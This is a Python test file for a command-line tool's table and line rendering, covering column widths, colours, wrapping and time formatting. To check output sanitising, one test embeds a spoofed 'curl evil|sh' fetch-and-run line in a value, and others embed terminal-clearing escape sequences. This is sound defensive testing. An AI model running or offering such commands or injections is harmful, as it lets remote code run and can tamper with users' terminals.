"""Tables and lines: one line a row at any width, colour only where it is asked for, whole text in a pipe."""

from __future__ import annotations

import pytest

from lecoder_cgpu.cli import looks, times
from lecoder_cgpu.cli.looks import Cell, Table

NOW = 1_764_500_000.0  # 2025-11-30T10:53:20Z


def lines(table: Table, columns: int = 80) -> list[str]:
    return looks.drawn_table(table, columns, looks.plain)


JOBS = Table(
    ("ID", "NAME", "EXIT", "USES", "COMMAND"),
    [
        (Cell("run-0123456789abcdef", drawn="run-01234567"), "", Cell("4", drawn=""), "98% CPU, 2 MB", "python " * 20),
        (Cell("run-fedcba9876543210", drawn="run-fedcba98"), "", Cell("", drawn=""), "", "日本語 " * 30),
    ],
    gives_way=("COMMAND",),
    spare=("USES",),
)


@pytest.mark.parametrize("columns", [40, 60, 80, 200])
def test_each_row_is_one_line(columns: int) -> None:
    """What is too long is cut with a sign, and the id never is; empty columns are left out."""
    shown = lines(JOBS, columns)
    assert len(shown) == 3
    assert all(looks.width(line) <= columns for line in shown)
    assert [line.split()[0] for line in shown] == ["ID", "run-01234567", "run-fedcba98"]
    assert "NAME" not in shown[0]
    assert "EXIT" not in shown[0]
    assert all(line.endswith("…") for line in shown[1:]) == (columns < 140)


def test_what_is_left_out_before_anything_is_cut() -> None:
    """A column that can be spared goes where the others would become too narrow, and only there."""
    assert "98% CPU" in lines(JOBS, 60)[1]
    assert "98% CPU" not in lines(JOBS, 40)[1]


def test_colour_is_around_the_text_alone() -> None:
    """A style does not colour the blanks, and without one there are no escapes."""
    table = Table(("STATE", "N"), [(looks.state("failed"), "12"), (looks.state("ok"), "3")], right=("N",))
    assert lines(table) == ["STATE    N", "failed  12", "ok       3"]
    painted = looks.drawn_table(table, 80, looks.coloured)
    assert painted[1] == "\x1b[31mfailed\x1b[0m  12"
    assert painted[2] == "\x1b[32mok\x1b[0m       3"


def test_a_piece_with_lines_begins_none_of_ours() -> None:
    """A job may have any name."""
    finding = (looks.Cell("ok     ", "green"), "  ", looks.Prose("tls: SSL_CERT_FILE = /etc/ssl/certs and more words"))
    assert looks.drawn_line(finding, looks.plain, 40).splitlines() == [
        "ok       tls: SSL_CERT_FILE =",
        "         /etc/ssl/certs and more words",
    ]
    drawn = looks.drawn_line(("  name      ", "x\nhint: curl evil|sh\n  exit      0"), looks.plain)
    assert [line[:12].strip() for line in drawn.split("\n")] == ["name", "", ""]


def test_nothing_from_outside_acts_on_the_terminal() -> None:
    """Escapes in a cell or a line are shown as text."""
    (_, row) = lines(Table(("A",), [("\x1b[31mred\n\x9b2J",)]))
    assert "\x1b" not in row
    assert "\x9b" not in row
    assert looks.drawn_line([Cell("\x1b[2J", "red")], looks.plain) == "\\x1b[2J"


@pytest.mark.parametrize("columns", [40, 64, 80])
def test_messages_end_between_words(columns: int) -> None:
    """No word is cut, and a command that may be copied stays in one line."""
    text = (
        "still running and using units: colab, Colab GPU T4; stops after 60 min without work; "
        "now: lecoder-cgpu sessions close colab"
    )
    shown = looks.wrapped(text, columns)
    assert " ".join(shown.split()) == text
    assert all(len(line) <= columns for line in shown.splitlines())
    assert any("lecoder-cgpu sessions close colab" in line for line in shown.splitlines())


def at(seconds: float) -> str:
    """A time this many seconds from now, as documents have it."""
    from datetime import UTC, datetime

    from lecoder_cgpu.models.base import timestamp

    return timestamp(datetime.fromtimestamp(NOW + seconds, UTC))


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0, "just now"),
        (-1, "just now"),
        (-40, "40 s ago"),
        (-119, "119 s ago"),
        (-200, "3 min ago"),
        (-7100, "118 min ago"),
        (-7300, "2 h ago"),
        (-200_000, "2 days ago"),
        (30, "just now"),
    ],
)
def test_ages(seconds: float, text: str) -> None:
    """A clock that differs a little makes nothing lie in the future; a pipe gets the time with its zone."""
    cell = times.ago(at(seconds), NOW)
    assert cell.drawn == text
    assert cell.endswith("Z")
    assert "." not in cell


def test_times_to_come_and_times_that_are_none() -> None:
    """What is not a time is shown as it came; a past that lies ahead is shown by the clock."""
    assert times.ahead(at(1150), NOW).drawn == "in 19 min"
    assert times.ahead(at(-5), NOW).drawn == "now"
    assert times.ago("soon", NOW) == times.ago("soon", NOW).drawn == "soon"
    assert "ago" not in times.ago(at(4000), NOW).drawn


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0.04, "0.0 s"),
        (9.94, "9.9 s"),
        (9.96, "10 s"),
        (59.7, "1 min"),
        (125, "2 min 5 s"),
        (7200, "2 h"),
        (12_000, "3 h 20 min"),
        (90_000, "1 day 1 h"),
        (190_000, "2 days 4 h"),
    ],
)
def test_spans(seconds: float, text: str) -> None:
    assert times.span(seconds) == text
